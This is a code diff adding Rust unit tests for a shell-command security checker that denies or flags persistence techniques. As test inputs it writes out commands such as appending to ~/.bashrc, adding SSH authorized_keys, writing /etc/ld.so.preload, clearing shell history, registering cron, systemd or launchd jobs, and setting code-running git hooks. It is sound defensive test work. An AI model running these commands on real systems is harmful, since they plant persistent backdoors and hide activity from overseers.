+        assert!(glob_match("**/a/**/b", "/x/a/y/z/b", false));
+    }
+
+    #[test]
+    fn path_forms_cover_home_variants() {
+        let c = ctx(Os::Linux);
+        let f = path_forms("~/.bashrc", &c);
+        assert!(f.home_rel.contains(&".bashrc".to_string()));
+        let f = path_forms("~bob/.ssh/rc", &c);
+        assert!(f.home_rel.contains(&".ssh/rc".to_string()));
+        let f = path_forms("/root/.zshrc", &c);
+        assert!(f.home_rel.contains(&".zshrc".to_string()));
+        let f = path_forms("../.profile", &c);
+        assert!(f.home_rel.contains(&".profile".to_string()));
+    }
+
+    #[test]
+    fn git_code_keys() {
+        assert!(git_key_runs_code("core.hooksPath", Some(".h")));
+        assert!(git_key_runs_code("filter.lfs.smudge", Some("x")));
+        assert!(git_key_runs_code("includeIf.gitdir:~/w/.path", Some("x")));
+        assert!(git_key_runs_code("alias.x", Some("!sh")));
+        assert!(!git_key_runs_code("alias.co", Some("checkout")));
+        assert!(!git_key_runs_code("credential.helper", Some("store")));
+        assert!(git_key_runs_code(
+            "credential.helper",
+            Some("!f() { id; }; f")
+        ));
+        assert!(!git_key_runs_code("user.email", Some("a@b")));
+    }
+
+    #[test]
+    fn writes_to_persistence_locations_are_denied() {
+        for c in [
+            "echo 'x' >> ~/.bashrc",
+            "echo x > $HOME/.zshenv",
+            "sort -o ~/.zshrc a",
+            "sort --out=~/.zshrc a",
+            "cp k.pub ~/.ssh/authorized_keys",
+            "cp authorized_keys ~/.ssh/",
+            "mv x -t ~/.config/autostart",
+            "ln -sf /dev/null ~/.bash_history",
+            "ln -s ~/.bashrc b",
+            "echo x | sudo tee -a /etc/profile.d/x.sh",
+            "sed -i 's/a/b/' ~/.profile",
+            "perl -pi -e 's/a/b/' ~/.bashrc",
+            "dd if=x of=/etc/ld.so.preload",
+            "truncate -s 0 ~/.bash_history",
+            "rm ~/.zsh_history",
+            "curl -o ~/.bashrc https://example.invalid/x",
+            "echo x >> .git/hooks/pre-commit",
+            "bash -c 'echo x >> .claude/settings.json'",
+            "install -m 644 u.service ~/.config/systemd/user/u.service",
+            "{ echo a; } >> /etc/cron.d/job",
+            "cat x > ../.bashrc",
+        ] {
+            assert!(has21(c, Severity::Deny), "{c}");
+        }
+    }
+
+    #[test]
+    fn ordinary_writes_are_not_check_21() {
+        for c in [
+            "echo x >> notes.txt",
+            "cp a b",
+            "sort -o out.txt in.txt",
+            "cat ~/.bashrc",
+            "rm ~/.bashrc.bak",
+            "ln -s a b",
+            "sed -n 1p ~/.bashrc",
+            "tee out.log",
+        ] {
+            let e = evaluate(c, &ctx(Os::Linux), &BashSecurityConfig::default());
+            assert!(!e.findings.iter().any(|f| f.id == ID), "{c}: {e:?}");
+        }
+    }
+
+    #[test]
+    fn macos_matching_is_case_insensitive() {
+        let e = evaluate(
+            "cp x.plist ~/library/launchagents/",
+            &ctx(Os::Macos),
+            &BashSecurityConfig::default(),
+        );
+        assert_eq!(e.verdict, Verdict::Deny, "{e:?}");
+    }
+
+    #[test]
+    fn configured_persistence_globs_are_matched() {
+        let cfg = BashSecurityConfig {
+            persistence_paths: vec!["~/.myhooks/**".into(), "*.autorun".into()],
+            ..BashSecurityConfig::default()
+        };
+        for c in ["echo x > ~/.myhooks/a", "cp x deep/dir/y.autorun"] {
+            let e = evaluate(c, &ctx(Os::Linux), &cfg);
+            assert!(e.findings.iter().any(|f| f.id == ID), "{c}: {e:?}");
+        }
+    }
+
+    #[test]
+    fn scheduling_commands() {
+        for c in [
+            "echo x | crontab -",
+            "crontab f.txt",
+            "crontab -e",
+            "crontab -u bob f",
+            "echo id | at now",
+            "at -f job.sh 10:00",
+            "batch",
+            "systemd-run --on-active=30 /bin/touch /tmp/x",
+            "systemctl --user enable evil.service",
+            "systemctl enable --user --now x.service",
+            "launchctl load ~/Library/LaunchAgents/x.plist",
+            "launchctl bootstrap gui/501 x.plist",
+        ] {
+            assert!(has21(c, Severity::Deny), "{c}");
+        }
+        for c in [
+            "crontab -l",
+            "crontab -r",
+            "at -l",
+            "systemctl status x",
+            "systemctl enable x",
+            "launchctl list",
+        ] {
+            assert!(!has21(c, Severity::Deny), "{c}");
+        }
+    }
+
+    #[test]
+    fn git_config_writes() {
+        for c in [
+            "git config core.hooksPath .h",
+            "git config --global core.pager 'less -R'",
+            "git -C repo config --add alias.x '!sh -c id'",
+            "git config set core.fsmonitor ./x",
+        ] {
+            assert!(has21(c, Severity::Deny), "{c}");
+        }
+        for c in [
+            "git config user.email a@b",
+            "git config --unset user.name",
+            "git config -e",
+        ] {
+            assert!(has21(c, Severity::Ask), "{c}");
+        }
+        for c in [
+            "git config --get user.email",
+            "git config user.email",
+            "git config -l",
+        ] {
+            let e = evaluate(c, &ctx(Os::Linux), &BashSecurityConfig::default());
+            assert!(!e.findings.iter().any(|f| f.id == ID), "{c}");
+        }
+    }
+
+    #[test]
+    fn option_values_handle_bundles_and_prefixes() {
+        let m = crate::shell::semantic::Arg {
+            value: None,
+            span: Span::default(),
+            plain: true,
+            glob: false,
+            substitution: false,
+            param: false,
+            brace: false,
+        };
+        let a = |s: &str| Arg {
+            value: Some(s.into()),
+            ..m.clone()
+        };
+        let args = [
+            a("-sSLo"),
+            a("out"),
+            a("-ofile2"),
+            a("--outp=x"),
+            a("-do"),
+            a("--output"),
+            a("y"),
+        ];
+        let v: Vec<Option<String>> = option_values(&args, Some('o'), &["output"], "d")
+            .into_iter()
+            .map(|x| x.0)
+            .collect();
+        assert_eq!(
+            v,
+            vec![
+                Some("out".into()),
+                Some("file2".into()),
+                Some("x".into()),
+                Some("y".into())
+            ]
+        );
+    }
+}
